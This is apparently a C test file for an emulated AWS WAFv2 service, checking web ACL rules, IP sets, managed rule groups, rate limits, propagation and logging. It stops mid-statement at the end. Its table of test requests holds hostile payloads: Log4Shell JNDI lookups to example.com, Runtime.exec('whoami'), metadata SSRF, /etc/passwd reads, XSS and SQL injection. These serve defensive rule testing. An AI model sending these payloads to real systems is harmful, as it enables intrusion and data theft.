/* test_wafv2_guard: requests for a guarded resource, judged by the service itself: what is in
 * force, lists, answers, logs, samples. A small service asks as those do whose resources are
 * guarded. */
#include "base/json.h"
#include "bus/bus.h"
#include "bus/guard.h"
#include "model/plain.h"
#include "wafv2/engine/injection.h"
#include "wire/message.h"

#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include <cmocka.h>

extern const struct vg_service wafv2_service, logs_service;

#define STAGE "arn:aws:apigateway:us-east-1::/restapis/a1/stages/prod"
#define HONEST "203.0.113.7"

struct fixture {
    uv_loop_t loop;
    struct vg_arena arena;
    struct vg_store *store;
    struct vg_bus *bus;
    struct vg_log log;
    char lists_dir[64];
    char acl_arn[256], acl_id[64], acl_token[64];
    struct vg_verdict verdict; /* of the latest request */
};
static struct fixture *f;

/* ---- Who asks ---- */

static const char *client_ip;

static int ask_run(struct vg_call *call, const struct vg_request *request,
                   struct vg_response *response, struct vg_error *err)
{
    const struct vg_verdict *verdict;
    const struct vg_inspection inspection = {
        .resource_arn = VG_STR(STAGE),
        .source_name = VG_STR("APIGW"),
        .source_id = VG_STR("000000000000:a1:prod"),
        .request = request,
        .path = request->path,
        .client_ip = vg_str_from(client_ip),
        .request_id = VG_STR("request-1"),
    };
    (void)response;
    (void)err;
    int rc = vg_await_verdict(call, &inspection, &verdict);
    if (rc == VG_OK)
        f->verdict = *verdict;
    return rc;
}

static bool ask_matches(const struct vg_request *request, struct vg_str path)
{
    (void)request;
    (void)path;
    return true;
}

static const struct vg_route routes[] = {
    {.mode = VG_OP_READ, .matches = ask_matches, .run = ask_run, .name = "ask"}, {.run = NULL}};
static const struct vg_service_model asker_model = {.name = VG_STR_INIT("asker")};
static const struct vg_service asker = {.model = &asker_model, .routes = routes};

/* ---- The instance ---- */

static void open_bus(int64_t propagation_ms, const char *lists_dir)
{
    static const struct vg_service *const services[] = {&asker, &wafv2_service, &logs_service,
                                                        NULL};
    struct vg_str problem = VG_STR_NONE;
    assert_int_equal(uv_loop_init(&f->loop), 0);
    f->log = (struct vg_log){.level = VG_LOG_ERROR};
    f->store = vg_store_open(&(struct vg_store_options){.log = &f->log}, &f->arena, &problem);
    assert_non_null(f->store);
    f->bus = vg_bus_new(&(struct vg_bus_options){.loop = &f->loop,
                                                 .store = f->store,
                                                 .services = services,
                                                 .seed = 1,
                                                 .log = &f->log,
                                                 .check_responses = true,
                                                 .default_account = "000000000000",
                                                 .default_region = "us-east-1",
                                                 .waf_lists_dir = lists_dir,
                                                 .waf_propagation_ms = propagation_ms});
    assert_int_equal(vg_bus_start(f->bus), VG_OK);
}

static int begin(void **state)
{
    (void)state;
    f = calloc(1, sizeof *f);
    assert_non_null(f);
    vg_arena_init(&f->arena);
    client_ip = HONEST;
    open_bus(0, NULL);
    return 0;
}

static void ignore(void *ctx)
{
    (void)ctx;
}

static void close_bus(void)
{
    vg_bus_stop(f->bus, ignore, NULL);
    uv_run(&f->loop, UV_RUN_DEFAULT);
    vg_bus_free(f->bus);
    vg_store_close(f->store);
    assert_int_equal(uv_loop_close(&f->loop), 0);
}

static int end(void **state)
{
    (void)state;
    close_bus();
    vg_arena_deinit(&f->arena);
    free(f);
    return 0;
}

static void on_rest(void *ctx, bool is_settled, struct vg_str what)
{
    (void)what;
    *(int *)ctx = is_settled ? 1 : -1;
}

static void advance(int64_t ms)
{
    int settled = 0;
    vg_bus_advance_to(f->bus, vg_clock_now_ms(vg_bus_clock(f->bus)) + ms, on_rest, &settled);
    while (settled == 0)
        uv_run(&f->loop, UV_RUN_ONCE);
    assert_int_equal(settled, 1);
}

/* ---- Calls ---- */

struct answer {
    bool is_there;
    const struct vg_op_model *op;
    struct vg_str json; /* the output, or the error's message */
    int rc;
};

static void on_done(void *ctx, struct vg_call *call, int rc, const void *out,
                    const struct vg_error *err)
{
    struct answer *answer = ctx;
    struct vg_buf buf;
    (void)call;
    answer->is_there = true;
    answer->rc = rc;
    vg_buf_init(&buf, &f->arena, 0);
    if (rc == VG_OK && answer->op != NULL)
        vg_value_to_json(answer->op->output, out, &buf);
    else if (rc != VG_OK)
        vg_buf_add(&buf, err->message);
    answer->json = vg_buf_str(&buf);
}

/* JSON with ' for "; must succeed. */
static struct vg_str api(const struct vg_service *service, const char *operation, const char *fmt,
                         ...)
{
    char json[16384];
    va_list args;
    struct vg_violations *violations = VG_NEW(&f->arena, struct vg_violations);
    struct vg_str problem;
    va_start(args, fmt);
    vsnprintf(json, sizeof json, fmt, args);
    va_end(args);
    for (char *at = json; *at != '\0'; at++)
        if (*at == '\'')
            *at = '"';
    struct answer answer = {.op = vg_model_op(service->model, vg_str_from(operation))};
    assert_non_null(answer.op);
    void *in = vg_arena_zalloc(&f->arena, 1, answer.op->input->size);
    vg_violations_init(violations, &f->arena);
    if (!vg_value_from_json(answer.op->input, vg_arena_copy(&f->arena, vg_str_from(json)),
                            &f->arena, in, violations, &problem))
        fail_msg("%s: %.*s", json, VG_STR_ARG(problem));
    vg_bus_submit(f->bus, &(struct vg_submission){.service = service,
                                                  .op = answer.op,
                                                  .in = in,
                                                  .violations = violations,
                                                  .done = on_done,
                                                  .ctx = &answer});
    while (!answer.is_there)
        uv_run(&f->loop, UV_RUN_ONCE);
    if (answer.rc != VG_OK)
        fail_msg("%s %s: %.*s", operation, json, VG_STR_ARG(answer.json));
    return answer.json;
}

/* A text member, wherever it is in the JSON. */
static void take(struct vg_str json, const char *member, char *out, size_t size)
{
    char pattern[64];
    snprintf(pattern, sizeof pattern, "\"%s\":\"", member);
    ptrdiff_t at = vg_str_find(json, vg_str_from(pattern));
    assert_true(at >= 0);
    struct vg_str rest = vg_str_tail(json, (size_t)at + strlen(pattern));
    snprintf(out, size, "%.*s", (int)vg_str_find_char(rest, '"'), rest.ptr);
}

/* "GET /path?query": with one header, and a body. */
static enum vg_verdict_kind ask(const char *method, const char *target, const char *header,
                                const char *value, const char *body)
{
    struct vg_request *request = VG_NEW(&f->arena, struct vg_request);
    struct vg_header *headers = VG_NEW_ARRAY(&f->arena, struct vg_header, 2);
    struct answer answer = {.op = NULL};
    struct vg_response *response = VG_NEW(&f->arena, struct vg_response);
    struct vg_str text = vg_arena_copy(&f->arena, vg_str_from(target));
    ptrdiff_t mark = vg_str_find_char(text, '?');
    headers[0] = (struct vg_header){VG_STR("User-Agent"), VG_STR("test")};
    headers[1] = (struct vg_header){vg_str_from(header), vg_str_from(value)};
    *request =
        (struct vg_request){.arena = &f->arena,
                            .method = vg_str_from(method),
                            .target = text,
                            .path = mark < 0 ? text : vg_str_slice(text, 0, (size_t)mark),
                            .query = mark < 0 ? VG_STR_NONE : vg_str_tail(text, (size_t)mark + 1),
                            .headers = headers,
                            .header_count = header != NULL ? 2 : 1,
                            .body = vg_str_from(body)};
    vg_response_init(response, &f->arena, 200);
    f->verdict = (struct vg_verdict){.kind = VG_VERDICT_NONE};
    vg_bus_submit(f->bus, &(struct vg_submission){.service = &asker,
                                                  .route = &routes[0],
                                                  .request = request,
                                                  .response = response,
                                                  .arena = &f->arena,
                                                  .done = on_done,
                                                  .ctx = &answer});
    while (!answer.is_there)
        uv_run(&f->loop, UV_RUN_ONCE);
    assert_int_equal(answer.rc, VG_OK);
    return f->verdict.kind;
}

static enum vg_verdict_kind get(const char *target)
{
    return ask("GET", target, NULL, NULL, "");
}

#define VISIBLE(metric)                                                                            \
    "'VisibilityConfig':{'SampledRequestsEnabled':true,'CloudWatchMetricsEnabled':true,"           \
    "'MetricName':'" metric "'}"
#define HAS(base64, action)                                                                        \
    "{'Name':'has','Priority':1,'Action':{" action                                                 \
    "}," VISIBLE("has") ",'Statement':{"                                                           \
                        "'ByteMatchStatement':{'SearchString':'" base64                            \
                        "','FieldToMatch':{'UriPath':{}},"                                         \
                        "'TextTransformations':[{'Priority':0,'Type':'NONE'}],'"                   \
                        "PositionalConstraint':'CONTAINS'}}}"
#define ABC "YWJj"
#define MANAGED(name, more)                                                                        \
    "{'Name':'managed','Priority':2,'OverrideAction':{'None':{}}," VISIBLE(                        \
        "managed") ",'Statement':{'ManagedRuleGroupStatement':{'VendorName':'AWS','Name':'" name   \
                   "'" more "}}}"

static void create_acl(const char *rules)
{
    struct vg_str made =
        api(&wafv2_service, "CreateWebACL",
            "{'Name':'acl','Scope':'REGIONAL','DefaultAction':{'Allow':{}}," VISIBLE(
                "acl") ",'Rules':[%s]}",
            rules);
    take(made, "ARN", f->acl_arn, sizeof f->acl_arn);
    take(made, "Id", f->acl_id, sizeof f->acl_id);
    take(made, "LockToken", f->acl_token, sizeof f->acl_token);
    api(&wafv2_service, "AssociateWebACL", "{'WebACLArn':'%s','ResourceArn':'" STAGE "'}",
        f->acl_arn);
}

static void update_acl(const char *rules)
{
    struct vg_str next =
        api(&wafv2_service, "UpdateWebACL",
            "{'Name':'acl','Scope':'REGIONAL','Id':'%s','LockToken':'%s','DefaultAction':"
            "{'Allow':{}}," VISIBLE("acl") ",'Rules':[%s]}",
            f->acl_id, f->acl_token, rules);
    take(next, "NextLockToken", f->acl_token, sizeof f->acl_token);
}

static void assert_has(struct vg_str json, const char *part)
{
    char copy[1024];
    snprintf(copy, sizeof copy, "%s", part);
    for (char *at = copy; *at != '\0'; at++)
        if (*at == '\'')
            *at = '"';
    if (vg_str_find(json, vg_str_from(copy)) < 0)
        fail_msg("%s is not in %.*s", copy, VG_STR_ARG(json));
}

/* ---- Verdicts ---- */

static void a_resource_without_a_web_acl_is_not_guarded(void **state)
{
    (void)state;
    assert_int_equal(get("/abc"), VG_VERDICT_NONE);
}

static void changes_are_in_force_with_the_next_request(void **state)
{
    (void)state;
    create_acl(HAS(ABC, "'Block':{}"));
    assert_int_equal(get("/abc"), VG_VERDICT_BLOCK);
    assert_int_equal(f->verdict.status, 403);
    assert_false(f->verdict.is_own_answer);
    assert_true(vg_str_is(f->verdict.guard_arn, f->acl_arn));
    assert_int_equal(get("/x"), VG_VERDICT_ALLOW);
    update_acl("");
    assert_int_equal(get("/abc"), VG_VERDICT_ALLOW);
    api(&wafv2_service, "DisassociateWebACL", "{'ResourceArn':'" STAGE "'}");
    assert_int_equal(get("/abc"), VG_VERDICT_NONE);
}

static void an_ip_set_s_change_is_in_force_at_once_too(void **state)
{
    (void)state;
    char arn[256], id[64], token[64];
    struct vg_str made = api(&wafv2_service, "CreateIPSet",
                             "{'Name':'set','Scope':'REGIONAL','IPAddressVersion':'IPV4',"
                             "'Addresses':['192.0.2.0/24']}");
    take(made, "ARN", arn, sizeof arn);
    take(made, "Id", id, sizeof id);
    take(made, "LockToken", token, sizeof token);
    char rules[1024];
    snprintf(rules, sizeof rules,
             "{'Name':'ips','Priority':1,'Action':{'Block':{}}," VISIBLE(
                 "ips") ",'Statement':{'IPSetReferenceStatement':{'ARN':'%s'}}}",
             arn);
    create_acl(rules);
    client_ip = "192.0.2.1";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    api(&wafv2_service, "UpdateIPSet",
        "{'Name':'set','Scope':'REGIONAL','Id':'%s','LockToken':'%s','Addresses':"
        "['198.51.100.0/24']}",
        id, token);
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
    client_ip = "198.51.100.1";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
}

static void a_rule_group_of_one_s_own_decides_and_changes(void **state)
{
    (void)state;
    char arn[256], id[64], token[64], rules[1024];
    struct vg_str made = api(&wafv2_service, "CreateRuleGroup",
                             "{'Name':'g','Scope':'REGIONAL','Capacity':50," VISIBLE(
                                 "g") ",'Rules':[" HAS(ABC, "'Block':{}") "]}");
    take(made, "ARN", arn, sizeof arn);
    take(made, "Id", id, sizeof id);
    take(made, "LockToken", token, sizeof token);
    snprintf(rules, sizeof rules,
             "{'Name':'ref','Priority':1,'OverrideAction':{'None':{}}," VISIBLE(
                 "ref") ",'Statement':{'RuleGroupReferenceStatement':{'ARN':'%s'}}}",
             arn);
    create_acl(rules);
    assert_int_equal(get("/abc"), VG_VERDICT_BLOCK);
    api(&wafv2_service, "UpdateRuleGroup",
        "{'Name':'g','Scope':'REGIONAL','Id':'%s','LockToken':'%s'," VISIBLE("g") "}", id, token);
    assert_int_equal(get("/abc"), VG_VERDICT_ALLOW);
}

static void refusals_have_their_answers(void **state)
{
    (void)state;
    create_acl(HAS(ABC, "'Captcha':{}"));
    assert_int_equal(get("/abc"), VG_VERDICT_CAPTCHA);
    assert_true(f->verdict.is_own_answer && f->verdict.status == 405);
    assert_true(vg_str_is(f->verdict.response_headers[0].name, "x-amzn-waf-action"));
    assert_true(vg_str_is(f->verdict.response_headers[0].value, "captcha"));
    assert_int_equal(f->verdict.response_body.len, 0);
    update_acl(HAS(ABC, "'Challenge':{}"));
    assert_int_equal(ask("GET", "/abc", "Accept", "text/html,*/*", ""), VG_VERDICT_CHALLENGE);
    assert_int_equal(f->verdict.status, 202);
    assert_true(vg_str_is(f->verdict.response_headers[0].value, "challenge"));
    assert_true(f->verdict.response_body.len > 0);
    update_acl(HAS(ABC, "'Block':{'CustomResponse':{'ResponseCode':429,'ResponseHeaders':"
                        "[{'Name':'retry-after','Value':'60'}]}}"));
    assert_int_equal(get("/abc"), VG_VERDICT_BLOCK);
    assert_true(f->verdict.is_own_answer && f->verdict.status == 429);
    assert_true(vg_str_is(f->verdict.response_headers[0].value, "60"));
    update_acl(HAS(ABC, "'Allow':{'CustomRequestHandling':{'InsertHeaders':[{'Name':'seen',"
                        "'Value':'yes'}]}}"));
    assert_int_equal(get("/abc"), VG_VERDICT_ALLOW);
    assert_int_equal(f->verdict.request_header_count, 1);
    assert_true(vg_str_is(f->verdict.request_headers[0].name, "x-amzn-waf-seen"));
}

/* ---- Managed groups ---- */

static void listed_addresses_are_kept_out(void **state)
{
    (void)state;
    create_acl(MANAGED("AWSManagedRulesAmazonIpReputationList", ""));
    client_ip = "192.0.2.1";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "192.0.2.200";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "2001:db8:1::1";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "198.51.100.1"; /* counted alone */
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
    client_ip = HONEST;
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
    update_acl(MANAGED("AWSManagedRulesAnonymousIpList", ""));
    client_ip = "198.51.100.200";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "203.0.113.200";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
}

/* Begins anew with a folder of lists that has this file. */
static void begin_with_list(const char *name, const char *text)
{
    char path[128];
    snprintf(f->lists_dir, sizeof f->lists_dir, "/tmp/waf-lists-XXXXXX");
    assert_non_null(mkdtemp(f->lists_dir));
    snprintf(path, sizeof path, "%s/%s", f->lists_dir, name);
    FILE *file = fopen(path, "w");
    assert_non_null(file);
    fputs(text, file);
    fclose(file);
    close_bus();
    open_bus(0, f->lists_dir);
    unlink(path);
    rmdir(f->lists_dir);
}

static void a_folder_s_lists_take_the_place_of_the_samples(void **state)
{
    (void)state;
    begin_with_list("AnonymousIPList.txt",
                    "# mine\n203.0.113.7\n2001:db8:9::/48 # theirs\nnonsense\n\n");
    create_acl(MANAGED("AWSManagedRulesAnonymousIpList", ""));
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "2001:db8:9::5";
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "198.51.100.200"; /* of the sample */
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
    client_ip = "203.0.113.200"; /* that list has no file */
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
}

static void countries_come_from_a_file_smallest_block_first(void **state)
{
    (void)state;
    begin_with_list("countries.txt", "203.0.113.0/24 FR\n203.0.113.7 US-CA\n10.0.0.0/8 Mars\n");
    create_acl("{'Name':'geo','Priority':1,'Action':{'Block':{}}," VISIBLE(
        "geo") ",'Statement':{'GeoMatchStatement':{'CountryCodes':['US']}}}");
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "203.0.113.8";
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
    struct vg_str samples =
        api(&wafv2_service, "GetSampledRequests",
            "{'WebAclArn':'%s','RuleMetricName':'acl','Scope':'REGIONAL','MaxItems':1,"
            "'TimeWindow':{'StartTime':0,'EndTime':4000000000}}",
            f->acl_arn);
    assert_has(samples, "'Country':'FR'");
    assert_has(samples, "awswaf:clientip:geo:country:FR");
}

static void networks_come_from_a_file(void **state)
{
    (void)state;
    begin_with_list("asn.txt", "203.0.113.0/24 AS64500\n198.51.100.0/24 64501\n");
    create_acl("{'Name':'asn','Priority':1,'Action':{'Block':{}}," VISIBLE(
        "asn") ",'Statement':{'AsnMatchStatement':{'AsnList':[64500]}}}");
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    client_ip = "198.51.100.1";
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
}

/* Each published group's rules, by a request that each should see and one that none should. */
static const struct {
    const char *group, *rule, *method, *target, *header, *value, *body;
} attacks[] = {
#define COMMON "AWSManagedRulesCommonRuleSet"
#define INPUTS "AWSManagedRulesKnownBadInputsRuleSet"
#define SQLI "AWSManagedRulesSQLiRuleSet"
#define LINUX "AWSManagedRulesLinuxRuleSet"
    {COMMON, "UserAgent_BadBots_HEADER", "GET", "/", "User-Agent", "Nmap Scripting Engine", ""},
    {COMMON, "EC2MetaDataSSRF_QUERYARGUMENTS", "GET", "/?u=http%3A//169.254.169.254/x", 0, 0, ""},
    {COMMON, "EC2MetaDataSSRF_BODY", "POST", "/", 0, 0, "u=http://169.254.169.254/"},
    {COMMON, "EC2MetaDataSSRF_COOKIE", "GET", "/", "Cookie", "u=http://169.254.169.254/", ""},
    {COMMON, "EC2MetaDataSSRF_URIPATH", "GET", "/http:/169.254.169.254/", 0, 0, ""},
    {COMMON, "GenericLFI_QUERYARGUMENTS", "GET", "/?f=..%2f..%2fx", 0, 0, ""},
    {COMMON, "GenericLFI_URIPATH", "GET", "/a/%2e%2e/x", 0, 0, ""},
    {COMMON, "GenericLFI_BODY", "POST", "/", 0, 0, "f=../../x"},
    {COMMON, "RestrictedExtensions_URIPATH", "GET", "/x/server.log", 0, 0, ""},
    {COMMON, "RestrictedExtensions_QUERYARGUMENTS", "GET", "/?f=php.ini", 0, 0, ""},
    {COMMON, "GenericRFI_QUERYARGUMENTS", "GET", "/?f=http://203.0.113.9/x", 0, 0, ""},
    {COMMON, "GenericRFI_BODY", "POST", "/", 0, 0, "f=ftp://203.0.113.9/x"},
    {COMMON, "GenericRFI_URIPATH", "GET", "/http://203.0.113.9/x", 0, 0, ""},
    {COMMON, "CrossSiteScripting_QUERYARGUMENTS", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", 0,
     0, ""},
    {COMMON, "CrossSiteScripting_BODY", "POST", "/", 0, 0, "<script>alert(1)</script>"},
    {COMMON, "CrossSiteScripting_COOKIE", "GET", "/", "Cookie", "a=<script>alert(1)</script>", ""},
    {COMMON, "CrossSiteScripting_URIPATH", "GET", "/%3Cscript%3Ealert(1)%3C/script%3E", 0, 0, ""},
    {"AWSManagedRulesAdminProtectionRuleSet", "AdminProtection_URIPATH", "GET", "/SQLManager/x", 0,
     0, ""},
    {INPUTS, "JavaDeserializationRCE_HEADER", "GET", "/", "X-A",
     "(java.lang.Runtime).getRuntime().exec(\"whoami\")", ""},
    {INPUTS, "JavaDeserializationRCE_BODY", "POST", "/", 0, 0,
     "(java.lang.Runtime).getRuntime().exec(\"whoami\")"},
    {INPUTS, "JavaDeserializationRCE_URIPATH", "GET", "/java.lang.Runtime", 0, 0, ""},
    {INPUTS, "JavaDeserializationRCE_QUERYSTRING", "GET", "/?class.module.classLoader=1", 0, 0, ""},
    {INPUTS, "Host_localhost_HEADER", "GET", "/", "Host", "localhost:8080", ""},
    {INPUTS, "PROPFIND_METHOD", "PROPFIND", "/", 0, 0, ""},
    {INPUTS, "ExploitablePaths_URIPATH", "GET", "/WEB-INF/web.xml", 0, 0, ""},
    {INPUTS, "Log4JRCE_HEADER", "GET", "/", "X-A", "${jndi:ldap://example.com/}", ""},
    {INPUTS, "Log4JRCE_QUERYSTRING", "GET", "/?a=%24%7Bjndi:ldap://example.com/%7D", 0, 0, ""},
    {INPUTS, "Log4JRCE_BODY", "POST", "/", 0, 0, "${${lower:j}ndi:ldap://example.com/}"},
    {INPUTS, "Log4JRCE_URIPATH", "GET", "/${jndi:ldap://example.com/}", 0, 0, ""},
    {SQLI, "SQLi_QUERYARGUMENTS", "GET", "/?id=1%27%20OR%20%271%27=%271", 0, 0, ""},
    {SQLI, "SQLi_BODY", "POST", "/", 0, 0, "1' OR '1'='1"},
    {SQLI, "SQLi_COOKIE", "GET", "/", "Cookie", "id=1' OR '1'='1", ""},
    {SQLI, "SQLiExtendedPatterns_QUERYARGUMENTS", "GET", "/?a=tables+in+information_schema.x", 0, 0,
     ""},
    {SQLI, "SQLiExtendedPatterns_BODY", "POST", "/", 0, 0, "words of information_schema.x"},
    {LINUX, "LFI_URIPATH", "GET", "/a/../proc/version", 0, 0, ""},
    {LINUX, "LFI_QUERYSTRING", "GET", "/?f=/etc/passwd", 0, 0, ""},
    {LINUX, "LFI_HEADER", "GET", "/", "X-F", "/proc/version", ""},
};

static void published_groups_see_what_they_are_for(void **state)
{
    (void)state;
    bool is_first = true;
    struct waf_injection injection;
    bool has_library = waf_injection_open(&injection);
    const char *last_group = "";
    for (size_t i = 0; i < VG_COUNT_OF(attacks); i++) {
        char rules[512];
        bool needs_library =
            strcmp(attacks[i].group, COMMON) == 0 || strcmp(attacks[i].group, SQLI) == 0;
        if (needs_library && !has_library)
            continue;
        snprintf(rules, sizeof rules,
                 "{'Name':'managed','Priority':2,'OverrideAction':{'None':{}}," VISIBLE(
                     "managed") ",'Statement':{'ManagedRuleGroupStatement':{'VendorName':'AWS','"
                                "Name':'%s'}}}",
                 attacks[i].group);
        if (is_first)
            create_acl(rules);
        else if (strcmp(attacks[i].group, last_group) != 0)
            update_acl(rules);
        is_first = false;
        last_group = attacks[i].group;
        if (ask(attacks[i].method, attacks[i].target, attacks[i].header, attacks[i].value,
                attacks[i].body) != VG_VERDICT_BLOCK)
            fail_msg("%s let %s %s through", attacks[i].rule, attacks[i].method, attacks[i].target);
        struct vg_str samples =
            api(&wafv2_service, "GetSampledRequests",
                "{'WebAclArn':'%s','RuleMetricName':'managed','Scope':'REGIONAL','MaxItems':1,"
                "'TimeWindow':{'StartTime':0,'EndTime':4000000000}}",
                f->acl_arn);
        char rule[128];
        take(samples, "RuleNameWithinRuleGroup", rule, sizeof rule);
        assert_string_equal(rule, attacks[i].rule);
        assert_int_equal(ask("POST", "/prod/items?page=2&sort=price", "Accept", "application/json",
                             "{\"name\":\"O'Neil\",\"note\":\"select a size, then order\"}"),
                         VG_VERDICT_ALLOW);
    }
}

/* ---- Propagation ---- */

static void changes_take_the_propagation_time_on_the_virtual_clock(void **state)
{
    (void)state;
    close_bus();
    open_bus(20000, NULL);
    create_acl(HAS(ABC, "'Block':{}"));
    assert_int_equal(get("/abc"), VG_VERDICT_NONE);
    advance(21000);
    assert_int_equal(get("/abc"), VG_VERDICT_BLOCK);
    update_acl("");
    advance(10000);
    assert_int_equal(get("/abc"), VG_VERDICT_BLOCK);
    advance(11000);
    assert_int_equal(get("/abc"), VG_VERDICT_ALLOW);
    api(&wafv2_service, "DisassociateWebACL", "{'ResourceArn':'" STAGE "'}");
    assert_int_equal(get("/abc"), VG_VERDICT_ALLOW);
    advance(21000);
    assert_int_equal(get("/abc"), VG_VERDICT_NONE);
}

/* ---- What is left of a request ---- */

static void samples_tell_which_rule_met_what(void **state)
{
    (void)state;
    create_acl(HAS(ABC, "'Count':{}"));
    get("/abc?q=1");
    get("/other");
    struct vg_str samples =
        api(&wafv2_service, "GetSampledRequests",
            "{'WebAclArn':'%s','RuleMetricName':'has','Scope':'REGIONAL','MaxItems':10,"
            "'TimeWindow':{'StartTime':0,'EndTime':4000000000}}",
            f->acl_arn);
    assert_has(samples, "'ClientIP':'" HONEST "'");
    assert_has(samples, "'URI':'/abc'");
    assert_has(samples, "'Action':'COUNT'");
    assert_has(samples, "'PopulationSize':1");
    assert_has(samples, "{'Name':'User-Agent','Value':'test'}");
    samples = api(&wafv2_service, "GetSampledRequests",
                  "{'WebAclArn':'%s','RuleMetricName':'acl','Scope':'REGIONAL','MaxItems':1,"
                  "'TimeWindow':{'StartTime':0,'EndTime':4000000000}}",
                  f->acl_arn);
    assert_has(samples, "'URI':'/other'"); /* the latest */
    assert_has(samples, "'Action':'ALLOW'");
    assert_has(samples, "'PopulationSize':2");
}

static void samples_tell_of_puzzles_and_inserted_headers(void **state)
{
    (void)state;
    create_acl(HAS(ABC, "'Captcha':{}"));
    ask("GET", "/abc", "Cookie", "aws-waf-token=mine", "");
    const char *query = "{'WebAclArn':'%s','RuleMetricName':'has','Scope':'REGIONAL','MaxItems':1,"
                        "'TimeWindow':{'StartTime':0,'EndTime':4000000000}}";
    assert_has(api(&wafv2_service, "GetSampledRequests", query, f->acl_arn),
               "'CaptchaResponse':{'ResponseCode':405,'FailureReason':'TOKEN_INVALID'}");
    update_acl(HAS(ABC, "'Allow':{'CustomRequestHandling':{'InsertHeaders':[{'Name':'seen',"
                        "'Value':'yes'}]}}"));
    get("/abc");
    assert_has(api(&wafv2_service, "GetSampledRequests", query, f->acl_arn),
               "'RequestHeadersInserted':[{'Name':'x-amzn-waf-seen','Value':'yes'}]");
}

static void limited_addresses_can_be_asked_for(void **state)
{
    (void)state;
    create_acl("{'Name':'rate','Priority':1,'Action':{'Block':{}}," VISIBLE(
        "rate") ",'Statement':{'RateBasedStatement':{'Limit':10,'AggregateKeyType':'IP'}}}");
    for (int i = 0; i < 10; i++)
        assert_int_equal(get("/"), VG_VERDICT_ALLOW);
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    struct vg_str keys = api(&wafv2_service, "GetRateBasedStatementManagedKeys",
                             "{'Scope':'REGIONAL','WebACLName':'acl','WebACLId':'%s','RuleName':"
                             "'rate'}",
                             f->acl_id);
    assert_has(keys, "'ManagedKeysIPV4':{'IPAddressVersion':'IPV4','Addresses':['" HONEST "/32']}");
    advance(301000);
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
}

#define RATE_RULE(limit)                                                                           \
    "{'Name':'rate','Priority':1,'Action':{'Block':{}}," VISIBLE(                                  \
        "rate") ",'Statement':{'RateBasedStatement':{'Limit':" #limit                              \
                ",'AggregateKeyType':'IP'}}}"

static void counts_survive_changes_elsewhere_and_begin_anew_with_new_settings(void **state)
{
    (void)state;
    create_acl(RATE_RULE(10));
    for (int i = 0; i < 10; i++)
        get("/");
    update_acl(RATE_RULE(10) "," MANAGED("AWSManagedRulesAnonymousIpList", ""));
    assert_int_equal(get("/"), VG_VERDICT_BLOCK);
    update_acl(RATE_RULE(11));
    assert_int_equal(get("/"), VG_VERDICT_ALLOW);
}

static struct vg_str log_lines(void)
{
    advance(1000);
    return api(&logs_service, "FilterLogEvents", "{'logGroupName':'aws-waf-logs-a'}");
}

static void put_logging(const char *more)
{
    api(&wafv2_service, "PutLoggingConfiguration",
        "{'LoggingConfiguration':{'ResourceArn':'%s','LogDestinationConfigs':"
        "['arn:aws:logs:us-east-1:000000000000:log-group:aws-waf-logs-a']%s}}",
        f->acl_arn, more);
}

static void requests_are_logged_as_aws_does(void **state)
{
    (void)state;
    api(&logs_service, "CreateLogGroup", "{'logGroupName':'aws-waf-logs-a'}");
    create_acl(HAS(ABC, "'Block':{}"));
    put_logging(",'RedactedFields':[{'SingleHeader':{'Name':'cookie'}},{'QueryString':{}}]");
    ask("GET", "/abc?secret=1", "Cookie", "a=secret", "");
    struct vg_str lines = log_lines();
    assert_has(lines, "'logStreamName':'us-east-1_acl_0'");
    assert_has(lines, "\\'webaclId\\':\\'");
    assert_has(lines, "\\'terminatingRuleId\\':\\'has\\',\\'terminatingRuleType\\':\\'REGULAR\\',"
                      "\\'action\\':\\'BLOCK\\'");
    assert_has(lines,
               "\\'httpSourceName\\':\\'APIGW\\',\\'httpSourceId\\':\\'000000000000:a1:prod\\'");
    assert_has(lines, "{\\'name\\':\\'Cookie\\',\\'value\\':\\'REDACTED\\'}");
    assert_has(lines, "\\'uri\\':\\'/abc\\',\\'args\\':\\'REDACTED\\'");
    assert_has(lines, "\\'requestId\\':\\'request-1\\'");
    assert_true(vg_str_find(lines, VG_STR("secret")) < 0);
}

static void a_filter_keeps_lines_out_of_the_log(void **state)
{
    (void)state;
    api(&logs_service, "CreateLogGroup", "{'logGroupName':'aws-waf-logs-a'}");
    create_acl(HAS(ABC, "'Block':{}"));
    put_logging(
        ",'LoggingFilter':{'DefaultBehavior':'DROP','Filters':[{'Behavior':'KEEP',"
        "'Requirement':'MEETS_ANY','Conditions':[{'ActionCondition':{'Action':'BLOCK'}}]}]}");
    get("/fine");
    get("/abc");
    struct vg_str lines = log_lines();
    assert_has(lines, "\\'uri\\':\\'/abc\\'");
    assert_true(vg_str_find(lines, VG_STR("/fine")) < 0);
}

static void groups_and_labels_are_in_the_log(void **state)
{
    (void)state;
    api(&logs_service, "CreateLogGroup", "{'logGroupName':'aws-waf-logs-a'}");
    create_acl(MANAGED("AWSManagedRulesAmazonIpReputationList", ""));
    put_logging("");
    client_ip = "192.0.2.1";
    get("/");
    struct vg_str lines = log_lines();
    assert_has(lines, "\\'terminatingRuleType\\':\\'MANAGED_RULE_GROUP\\'");
    assert_has(lines, "\\'ruleGroupId\\':\\'AWS#AWSManagedRulesAmazonIpReputationList\\',"
